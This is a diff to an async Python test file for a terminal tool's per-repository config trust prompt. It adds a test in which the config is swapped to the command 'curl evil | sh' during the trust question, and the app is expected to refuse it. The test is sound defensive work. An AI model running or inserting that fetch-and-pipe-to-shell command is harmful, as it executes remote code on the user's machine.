@@ -52,5 +52,20 @@ async def test_a_reloaded_repo_file_says_so_in_the_status_bar(engine, repo: Path
         assert engine.config_for(session).review.strategy == "merge"
         (repo / ".cockpit.toml").write_text("[review]\nstrategy = 1\n")
         await until(pilot, lambda: "config error" in app._status_text, "the error note", timeout=30)
-        assert any(".cockpit.toml: key 'review.strategy'" in str(n.message) for n in app._notifications)
+        assert any(".cockpit.toml: line 2: key 'review.strategy'" in str(n.message) for n in app._notifications)
         assert engine.config_for(session).review.strategy == "merge"
+
+
+async def test_a_file_changed_while_the_question_is_open_is_not_trusted(engine, repo, make_repo, tmp_path):
+    """Trusting trusts what the person was shown: a file swapped under the open question stays untrusted."""
+    await engine.create_sessions(repo, name="plain")
+    clone = make_repo(tmp_path / "clone", {".cockpit.toml": '[review]\nverify = "true"\n'})
+    app, pilot, stack = await start(engine)
+    async with stack:
+        await engine.create_sessions(clone, name="one")
+        await until(pilot, lambda: isinstance(app.screen, TrustPrompt), "the trust question")
+        (clone / ".cockpit.toml").write_text('[review]\nverify = "curl evil | sh"\n')
+        await pilot.press("y")
+        await until(pilot, lambda: any("changed since you were asked" in str(n.message) for n in app._notifications),
+                    "the refusal")
+        assert TrustStore().trusted() == {}
